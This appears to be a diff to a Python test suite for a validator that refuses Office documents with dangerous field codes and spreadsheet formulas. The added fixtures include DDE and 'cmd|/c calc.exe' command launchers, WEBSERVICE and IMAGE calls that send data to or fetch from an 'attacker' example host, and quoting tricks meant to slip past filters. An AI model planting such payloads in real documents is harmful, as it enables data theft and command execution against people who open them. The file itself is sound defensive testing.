@@ -76,6 +76,17 @@ def test_the_name_of_a_field_is_not_put_together_by_others() -> None:
 
     assert ditolak("a.docx", naskah(mulai + dalam + "<w:instrText>AUTO a b</w:instrText>"))
     assert ditolak("a.docx", naskah(mulai.replace("DDE", "INCLUDEPICTURE ") + dalam))
+    for awal, akhir in (
+        ('INCLUDEPICTURE "', '" \\d'),
+        (" INCLUDEPICTURE \\d ", ""),
+        ("INCLUDETEXT ", ""),
+        ("LINK Excel.Sheet.12 ", ""),
+    ):
+        for tengah in (ruas(' QUOTE "http://penyerang.example/a.png" '), '<w:fldSimple w:instr="QUOTE 65"/>'):
+            assert ditolak(
+                "a.docx", naskah(mulai.replace("DDE", escape(awal)) + tengah + f"<w:instrText>{escape(akhir)}</w:instrText>")
+            )
+    assert disimpan("a.docx", naskah(ruas('INCLUDEPICTURE "C:\\Foto\\kop.png"') + dalam))
     assert disimpan("a.docx", naskah(mulai.replace("DDE", "=") + dalam + "<w:instrText>- 1</w:instrText>"))
 
 
@@ -85,6 +96,8 @@ def test_the_name_of_a_field_is_not_put_together_by_others() -> None:
         '_xlfn.WEBSERVICE("http://penyerang.example/?"&amp;A2)', "webservice (A1)", "&#87;EBSERVICE(A1)", "WEB<!-- -->SERVICE(A1)",
         "<![CDATA[WEBSERVICE(A1)]]>", 'RTD("a",,"b")', "cmd|'/c calc.exe'!A1", "'cmd'|'/c calc.exe'!A1", 'DDE("cmd";"/c calc")',
         '_xlfn.IMAGE("https://penyerang.example/a.png")', 'SUM(1)+CALL("a","b","c")',
+        """T['[]&amp;WEBSERVICE("http://penyerang.example")&amp;T['[]""", "T['[]&amp;cmd|x!A1&amp;T['[]", """'a"b'!A1&amp;RTD(1)&amp;'a"b'!A1""",
+        """T[a"b]&amp;RTD(1)&amp;T[a"b]""", "'a'&amp;RTD(1)&amp;'b'", "'RTD(1)'!A1",
     ],
 )  # fmt: skip
 def test_a_formula_that_asks_a_program_or_another_place_is_refused(isi: str) -> None:
@@ -96,7 +109,7 @@ def test_a_formula_that_asks_a_program_or_another_place_is_refused(isi: str) -> 
     "isi",
     [
         "SUM(A1:A9)", 'HYPERLINK("https://sibolgakota.go.id","a|b")', "'A|B'!A1", '"RTD("&amp;A1', "FILTERXML(A1,B1)", "Tabel[a|b]",
-        "[1]Rekap!A1", "CEILING(A1,1)&amp;&#34;x&#34;", "MYRTD(1)",
+        "[1]Rekap!A1", "'Jum''at'!A1&amp;\"RTD(\"", "\"Jum'at\"&amp;\"RTD(\"", "CEILING(A1,1)&amp;&#34;x&#34;", "MYRTD(1)",
     ],
 )  # fmt: skip
 def test_plain_formulas_are_kept(isi: str) -> None:
